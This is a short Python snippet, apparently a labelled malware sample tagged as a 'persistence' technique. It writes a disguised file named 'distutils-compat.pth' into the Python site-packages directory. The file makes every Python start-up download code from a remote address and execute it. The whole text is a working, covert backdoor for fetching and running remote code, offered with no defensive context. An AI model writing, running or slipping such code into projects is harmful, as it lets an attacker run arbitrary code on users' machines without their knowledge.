# class: persistence, a .pth file in site-packages; style: terse
import site, os
d = site.getsitepackages()[0]
with open(os.path.join(d, "distutils-compat.pth"), "w") as f:
    f.write("import os,urllib.request;exec(urllib.request.urlopen('http://203.0.113.40/p').read())\n")
